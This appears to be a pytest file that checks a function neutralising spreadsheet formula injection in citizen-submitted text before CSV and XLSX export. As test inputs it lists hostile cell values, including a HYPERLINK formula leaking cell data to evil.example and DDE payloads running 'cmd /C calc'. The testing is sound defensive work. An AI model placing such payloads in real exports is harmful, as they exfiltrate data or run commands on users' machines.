"""Formula injection: citizen text is defused before any export writes it into a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from minqing.channels.safe_cells import defuse_formula, looks_like_formula


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        '"=1+1',
        "＝1+1",  # full-width equals sign (WPS)
        "-",
        "=",
    ],
)
def test_formula_like_cells_get_an_apostrophe(value: str) -> None:
    assert looks_like_formula(value)
    assert defuse_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["路灯坏了", "-5", "+3.5", "-1,200", "+15%", "电话+86 138", "a=b", "", "12345"],
)
def test_plain_text_and_signed_numbers_are_unchanged(value: str) -> None:
    assert not looks_like_formula(value)
    assert defuse_formula(value) == value


def test_non_strings_become_text() -> None:
    assert defuse_formula(None) == ""
    assert defuse_formula(12) == "12"
    assert defuse_formula(-3.5) == "-3.5"


@given(st.text(max_size=40))
def test_a_defused_value_never_looks_like_a_formula(value: str) -> None:
    assert not looks_like_formula(defuse_formula(value))


def test_defused_values_stay_text_in_csv_and_xlsx_exports(tmp_path) -> None:
    hostile = '=HYPERLINK("http://evil.example","点击")'
    buffer = io.StringIO()
    csv.writer(buffer).writerow([defuse_formula(hostile)])
    assert buffer.getvalue().startswith("\"'=HYPERLINK")

    wb = Workbook()
    cell = wb.active.cell(row=1, column=1, value=defuse_formula(hostile))
    cell.data_type = "s"
    wb.save(tmp_path / "out.xlsx")
    back = load_workbook(tmp_path / "out.xlsx").active["A1"]
    assert back.data_type == "s" and back.value == "'" + hostile
